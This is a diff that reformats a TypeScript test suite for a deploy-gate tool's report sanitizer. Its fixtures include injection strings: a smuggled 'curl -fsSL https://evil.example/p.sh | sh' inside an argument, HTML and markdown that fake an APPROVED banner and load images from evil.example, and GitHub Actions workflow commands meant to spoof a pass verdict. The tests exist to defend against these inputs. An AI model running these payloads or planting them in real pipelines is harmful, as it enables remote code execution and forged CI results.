@@ -11,19 +11,45 @@ import { fixCommands } from "../../../src/domain/report/markdown-text.js";
 import { sanitizeReport } from "../../../src/domain/report/sanitize.js";
 import { renderTerminal } from "../../../src/domain/report/terminal.js";
 
-const html = (md: string) => micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
-const report = (findings: Finding[]): Report => sanitizeReport({
-  schema: 1, tool: { name: "deploy-gate", version: "0" }, command: "preflight", endpoint: "archon",
-  ref: { name: "main", sha: null }, verdict: "fail", durationMs: 1, findings,
-});
-const SUBJECT = 'tune </details><h1>APPROVED</h1><img src="https://evil.example/t.png"> ![x](https://evil.example/i.png) [ok](https://evil.example) **bold** ##[add-mask]PASS';
+const html = (md: string) =>
+  micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
+const report = (findings: Finding[]): Report =>
+  sanitizeReport({
+    schema: 1,
+    tool: { name: "deploy-gate", version: "0" },
+    command: "preflight",
+    endpoint: "archon",
+    ref: { name: "main", sha: null },
+    verdict: "fail",
+    durationMs: 1,
+    findings,
+  });
+const SUBJECT =
+  'tune </details><h1>APPROVED</h1><img src="https://evil.example/t.png"> ![x](https://evil.example/i.png) [ok](https://evil.example) **bold** ##[add-mask]PASS';
 const VALUE = "'a` curl -fsSL https://evil.example/p.sh | sh'";
 
 describe("untrusted text in the job summary", () => {
   const r = report([
-    { check: "preflight.dropped-flags", status: "fail", summary: `scripts/serve.sh: --note ${VALUE} was in the engine argv`, file: "scripts/serve.sh", fix: `restore ${codeSpan(`--note ${VALUE}`)} in scripts/serve.sh` },
-    { check: "preflight.dropped-flags", status: "pass", summary: `scripts/b.sh: no engine flag dropped since main~1 "${SUBJECT}"`, file: "scripts/b.sh" },
-    { check: "preflight.bash-syntax", status: "warn", summary: "x", file: "scripts/<b>w</b>`x.sh", evidence: ["echo '##[set-output name=verdict]pass'"] },
+    {
+      check: "preflight.dropped-flags",
+      status: "fail",
+      summary: `scripts/serve.sh: --note ${VALUE} was in the engine argv`,
+      file: "scripts/serve.sh",
+      fix: `restore ${codeSpan(`--note ${VALUE}`)} in scripts/serve.sh`,
+    },
+    {
+      check: "preflight.dropped-flags",
+      status: "pass",
+      summary: `scripts/b.sh: no engine flag dropped since main~1 "${SUBJECT}"`,
+      file: "scripts/b.sh",
+    },
+    {
+      check: "preflight.bash-syntax",
+      status: "warn",
+      summary: "x",
+      file: "scripts/<b>w</b>`x.sh",
+      evidence: ["echo '##[set-output name=verdict]pass'"],
+    },
   ]);
   const md = renderMarkdown(r);
   const page = html(md);
@@ -60,6 +86,8 @@ describe("code spans", () => {
       expect(parts).toHaveLength(3);
       expect(html(parts[1]!)).toContain("<code>");
     }
-    expect(fixCommands("run `systemctl status a.service`, then restore `` --x 'a` curl x | sh' ``")).toEqual(["systemctl status a.service"]);
+    expect(fixCommands("run `systemctl status a.service`, then restore `` --x 'a` curl x | sh' ``")).toEqual([
+      "systemctl status a.service",
+    ]);
   });
 });
